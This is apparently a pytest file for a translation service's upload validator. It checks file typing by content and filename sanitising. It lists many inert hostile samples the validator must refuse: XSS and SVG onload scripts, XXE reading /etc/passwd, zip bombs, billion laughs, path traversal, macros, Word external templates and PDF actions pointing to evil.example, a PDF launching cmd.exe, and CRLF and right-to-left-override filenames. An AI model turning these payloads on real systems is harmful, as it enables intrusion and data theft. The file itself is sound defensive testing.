"""What may be attached: documents a translator reads, by what they are; nothing that acts, grows, or pretends."""

import io
import time
import zipfile
import zlib

import pytest

from dispatch.translations.domain import MAX_BYTES, MAX_PARTS, safe_name, type_of
from dispatch.translations.errors import FileRefused

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT = "application/vnd.oasis.opendocument.text"
WORD = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types></Types>',
    "word/document.xml": b"<w:document>" + b"een lange brief " * 40 + b"</w:document>",
    "word/_rels/document.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://x/hyperlink"'
    b' Target="https://www.agii.be" TargetMode="External"/></Relationships>',
}
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 100


def archive(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", method) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return kept.getvalue()


def word(**more: bytes) -> bytes:
    """Return a Word document with more parts; `__` in a name stands for a slash, `_` for a dot."""
    return archive(WORD | {name.replace("__", "/").replace("_", "."): content for name, content in more.items()})


def relation(kind: str, mode: str = "External") -> bytes:
    target = 'Target="http://evil.example/t.dotm"'
    return f'<Relationship Id="r" Type="http://x/{kind}" {target} TargetMode="{mode}"/>'.encode()


def odt(**more: bytes) -> bytes:
    parts = {"mimetype": ODT.encode(), "content.xml": b"<office:document-content/>"}
    return archive(parts | {name.replace("__", "/").replace("_", "."): content for name, content in more.items()})


def pdf(what: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj<<" + what + b">>endobj\n%%EOF"


def packed(what: bytes) -> bytes:
    """Return a PDF that says something inside a packed stream of objects."""
    return pdf(b"/Type/ObjStm/Filter/FlateDecode") + b" stream\n" + zlib.compress(what) + b"\nendstream"


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, "application/pdf"),
        (PNG, "image/png"),
        (JPEG, "image/jpeg"),
        (archive(WORD), DOCX),
        (odt(), ODT),
        ("Een gewone brief, mét accenten: ا العربية 😀".encode(), "text/plain"),
        (b"\xef\xbb\xbfmet een merkteken", "text/plain"),
        (word(word__media__image1_png=PNG), DOCX),
        (word(**{"word__embeddings__sheet1_xlsx": archive({"a": b"b"})}), DOCX),
        (packed(b"/Title (Handleiding JavaScriptje)"), "application/pdf"),
    ],
)
def test_a_document_is_known_by_what_it_is(content: bytes, kind: str) -> None:
    assert type_of(content) == kind


HOSTILE = {
    "nothing": b"",
    "too large": b"%PDF-" + b"0" * MAX_BYTES,
    "html": b"<html><script>alert(1)</script>",
    "html after blanks": b"\n\n   <!doctype html>",
    "html with a mark": b"\xef\xbb\xbf<html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "xml with an entity": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "text with a script": b"Beste,\n<ScRiPt>alert(1)</sCrIpT>",
    "rtf": b"{\\rtf1 {\\object}}",
    "program for Windows": b"MZ\x90\x00\x03" + b"\xff" * 60,
    "program for Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60,
    "gif": b"GIF89a" + b"\0" * 20,
    "gzip": b"\x1f\x8b\x08" + b"\0" * 20,
    "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 20,
    "text with NUL": b"abc\0def",
    "half a character": b"caf\xc3",
    "UTF-16": "brief".encode("utf-16"),
    "broken archive": b"PK\x03\x04" + b"\0" * 100,
    "archive cut short": archive(WORD)[:-30],
    "plain archive": archive({"a.txt": b"b"}),
    "Excel": archive({"[Content_Types].xml": b"", "xl/workbook.xml": b""}),
    "only pretends to be Word": archive({"[Content_Types].xml": b"", "x.txt": b"word/document.xml"}),
    "zip bomb": archive(WORD | {"word/media/a.bin": b"\0" * (20 * 1024 * 1024)}),
    "a million entries": archive({f"p{n}": b"" for n in range(MAX_PARTS + 1)} | WORD),
    "path upwards": archive(WORD | {"../../etc/cron.d/x": b"x"}),
    "absolute path": archive(WORD | {"/etc/cron.d/x": b"x"}),
    "macro": word(word__vbaProject_bin=b"x"),
    "macro in capitals": archive(WORD | {"WORD/VBAPROJECT.BIN": b"x"}),
    "macro by content type": archive(
        WORD | {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"}
    ),
    "ActiveX": word(word__activeX__activeX1_xml=b"<x/>"),
    "program inside": archive(WORD | {"word/embeddings/setup.exe": b"MZ"}),
    "script inside": archive(WORD | {"word/embeddings/a.JS": b"x"}),
    "external template": archive(WORD | {"word/_rels/settings.xml.rels": relation("attachedTemplate")}),
    "external object": archive(WORD | {"word/_rels/document.xml.rels": relation("oleObject")}),
    "external picture": archive(WORD | {"word/_rels/document.xml.rels": relation("image")}),
    "external frame": archive(WORD | {"word/_rels/webSettings.xml.rels": relation("frame")}),
    "external with a prefix": archive(
        WORD | {"word/_rels/settings.xml.rels": relation("attachedTemplate").replace(b"<Rel", b"<r:Rel")}
    ),
    "XXE": archive(WORD | {"word/document.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
    "billion laughs": archive(WORD | {"word/styles.xml": b'<!DOCTYPE l [<!ENTITY l "lol"><!ENTITY m "&l;&l;">]><l/>'}),
    "OpenDocument with Basic": odt(Basic__script_xml=b"<x/>"),
    "OpenDocument with scripts": odt(Scripts__python__a_py=b"x"),
    "OpenDocument spreadsheet": archive({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
    "PDF with JavaScript": pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "PDF with JS alone": pdf(b"/JS (x)"),
    "PDF with a hidden name": pdf(b"/#4aavaScript"),
    "PDF with a packed action": packed(b"<</S/JavaScript/JS(x)>>"),
    "PDF that starts a program": pdf(b"/S/Launch/F(cmd.exe)"),
    "PDF with a file in it": pdf(b"/Type/EmbeddedFile"),
    "PDF with files in it": pdf(b"/Names<</EmbeddedFiles 3 0 R>>"),
    "PDF with media": pdf(b"/RichMedia"),
    "PDF with a form of its own": pdf(b"/XFA 4 0 R"),
    "PDF that sends": pdf(b"/S/SubmitForm/F(http://evil.example)"),
    "PDF and archive": PDF + archive({"a": b"b"}),
    "picture and archive": PNG + archive({"a": b"b"}),
    "photograph and archive": JPEG + archive({"a": b"b"}),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_what_acts_grows_or_pretends_is_refused_quickly(content: bytes) -> None:
    began = time.monotonic()
    with pytest.raises(FileRefused):
        type_of(content)
    assert time.monotonic() - began < 5


def test_an_archive_that_lies_about_its_size_is_counted() -> None:
    lying = bytearray(archive(WORD | {"word/media/a.bin": b"\0" * (30 * 1024 * 1024)}))
    true_size = (30 * 1024 * 1024).to_bytes(4, "little")
    while (at := lying.find(true_size)) >= 0:
        lying[at : at + 4] = (10).to_bytes(4, "little")
    with pytest.raises(FileRefused):
        type_of(bytes(lying))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("brief.pdf", "brief.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\brief.docx", "brief.docx"),
        ("/etc/cron.d/x", "x"),
        ("fac\u202efdp.exe", "facfdp.exe"),
        ("a\0b.pdf", "ab.pdf"),
        ("regel\r\nSet-Cookie: x.txt", "regelSet-Cookie: x.txt"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
        (" . brief.pdf . ", "brief.pdf"),
    ],
)
def test_a_name_is_only_a_name(given: str, kept: str) -> None:
    assert safe_name(given) == kept


@pytest.mark.parametrize("given", ["", "..", "/", "\u202e", " . "])
def test_a_file_has_a_name(given: str) -> None:
    with pytest.raises(FileRefused):
        safe_name(given)
